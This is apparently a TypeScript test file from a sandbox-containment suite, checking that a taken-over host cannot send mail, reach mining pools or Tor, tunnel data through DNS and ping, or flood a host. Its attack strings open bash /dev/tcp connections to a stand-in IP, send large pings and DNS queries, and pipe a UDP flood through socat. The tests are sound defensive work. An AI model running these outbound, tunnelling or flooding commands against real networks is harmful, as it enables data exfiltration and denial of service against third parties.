/** Class 19: what a taken-over host would be used for: mail, mining, name queries as a tunnel, floods. Tried in the narrowest mode, where only the registry is open. */
import type { Attack, Stage } from "../attack.ts";
import { openRouter } from "../weakenings/network.ts";
import { bytesOf, framesOnWireOf } from "../wire.ts";

/** Kept for documentation: nobody's. The neighbour's wire stands for the way to it. */
const somewhere = "203.0.113.77";

async function sendSomewhere(stage: Stage, send: string) {
  const { attacker, victim } = stage;
  const route = `${somewhere}/32 via ${victim.address} dev eth0 src ${attacker.address}`;
  const { exitCode, stderr } = await attacker.outside(`ip route replace ${route}`);
  if (exitCode !== 0) throw new Error(`there is no way: ${stderr}`);
  const frames = await framesOnWireOf(victim, stage, {
    pattern: bytesOf(attacker.address) + bytesOf(somewhere),
    attack: () => attacker.root(`{ ${send} } > /dev/null 2>&1; true`),
  });
  await attacker.outside(`ip route del ${route}`);
  return { succeeded: frames > 0, observed: `${frames} packets left for ${somewhere}` };
}

const connectTo = (...ports: readonly number[]) =>
  `${ports.map((port) => `timeout 1 bash -c 'exec 3<> /dev/tcp/${somewhere}/${port}' &`).join(" ")} wait;`;

const attacks: readonly Attack[] = [
  {
    nr: "19a",
    name: "send mail",
    expected: "no packet leaves the sandbox",
    weakened: openRouter,
    isShort: true,
    attempt: (stage) => sendSomewhere(stage, connectTo(25, 465, 587, 2525)),
  },
  {
    nr: "19b",
    name: "call a mining pool, Tor, and the web",
    expected: "no packet leaves the sandbox",
    weakened: openRouter,
    attempt: (stage) => sendSomewhere(stage, connectTo(80, 443, 3333, 4444, 9001, 9030)),
  },
  {
    nr: "19c",
    name: "tunnel through name queries and echo requests",
    expected: "no packet leaves the sandbox",
    weakened: openRouter,
    attempt: (stage) =>
      sendSomewhere(stage, `dig +tries=1 +time=1 @${somewhere} secret.example; ping -c 2 -W 1 -s 1000 ${somewhere};`),
  },
  {
    nr: "19d",
    name: "flood somebody with datagrams",
    expected: "no packet leaves the sandbox",
    weakened: openRouter,
    attempt: (stage) =>
      sendSomewhere(stage, `head -c 1M /dev/zero | timeout 5 socat -u -b 1000 - UDP4-DATAGRAM:${somewhere}:9;`),
  },
];
export default attacks;
